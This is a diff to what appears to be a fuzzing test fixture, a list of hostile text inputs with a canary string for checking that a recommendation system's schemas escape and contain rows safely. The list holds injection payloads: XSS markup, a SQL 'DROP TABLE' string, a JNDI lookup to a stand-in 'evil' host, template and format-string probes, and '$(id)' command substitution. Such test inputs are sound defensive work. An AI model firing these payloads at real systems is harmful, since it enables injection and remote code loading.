@@ -15,7 +15,9 @@ from schemas import columns as c
 from schemas import interactions, members, postings
 
 CANARY = "qzcanaryqz"  # in every text of a row: where it is found, a row's text has come out
+MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>"
 TEXTS = [
+    MARKUP,
     "",
     "NA\x00\x00",
     "\x00\x01\x02\x1f\x7f\x80\x9b",
@@ -28,7 +30,6 @@ TEXTS = [
     "\u0301\u0301\u0301",
     "\u200d",
     "\ue000\uf8ff\ufffd",
-    "<script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>",
     "<" * 3000 + "b>&lt;script&gt;&amp;lt;",
     "'; DROP TABLE recommendations; -- \" OR 1=1 /* ` */",
     "${jndi:ldap://evil/x} ${PATH} {0} {config.__class__} %s %n %(message)s {{7*7}} $(id) `id`",
